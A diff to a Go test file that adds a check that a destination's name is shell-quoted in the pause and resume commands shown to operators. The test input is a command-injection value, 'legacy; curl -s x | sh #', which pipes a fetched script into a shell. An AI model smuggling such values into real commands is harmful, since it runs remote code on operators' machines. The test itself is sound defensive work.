@@ -88,3 +88,15 @@ func TestOpenDetails(t *testing.T) {
 		"its answer closes or reopens it, and if none comes another probe goes at 2026-03-01 09:03:00 UTC")
 	require.Contains(t, md, "courier destination resume crm")
 }
+
+// TestDetailsQuoteTheName: a gate's name goes into the commands its page
+// shows shell-quoted, so a name cannot add a command to the one an
+// operator pastes.
+func TestDetailsQuoteTheName(t *testing.T) {
+	name := "legacy; curl -s x | sh #"
+	md := gateDetails(t, DestinationState{Name: name, State: Closed, Since: detailsAt, Breaker: Breaker{State: Closed}})
+	require.Contains(t, md, "courier destination pause 'legacy; curl -s x | sh #' \\\n  --reason")
+	md = gateDetails(t, DestinationState{Name: name, State: Paused, Since: detailsAt, Breaker: Breaker{State: Closed},
+		Paused: &Pause{Reason: "r", By: "alice", Since: detailsAt}})
+	require.Contains(t, md, "courier destination resume 'legacy; curl -s x | sh #' \\\n  --by <YOUR-NAME>")
+}
